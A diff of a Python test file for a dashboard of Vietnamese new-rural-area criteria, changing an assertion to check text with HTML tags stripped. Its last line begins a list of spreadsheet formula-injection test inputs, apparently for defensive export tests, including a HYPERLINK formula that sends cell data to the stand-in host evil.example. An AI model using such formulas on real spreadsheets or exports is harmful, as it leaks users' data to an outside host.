@@ -314,7 +314,8 @@ def test_dashboard_columns_come_from_the_sets_in_force(people, as_user, tmp_path
     assert "Xã NTM (19.2)" not in html and "III.2" not in html
     html = page(client.get("/reports/dashboard?year=2024"))
     assert "Xã NTM (19.2)" in html and "Huyện NTM (9.4): tiêu chí III.2" in html
-    assert "giai đoạn 2026–2030" not in html and "xa-ntm-19.2" not in html  # names, not codes
+    shown = re.sub(r"<[^>]+>", " ", html)  # what the reader sees (links may carry codes)
+    assert "giai đoạn 2026–2030" not in shown and "xa-ntm-19.2" not in shown  # names, not codes
 
 
 INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
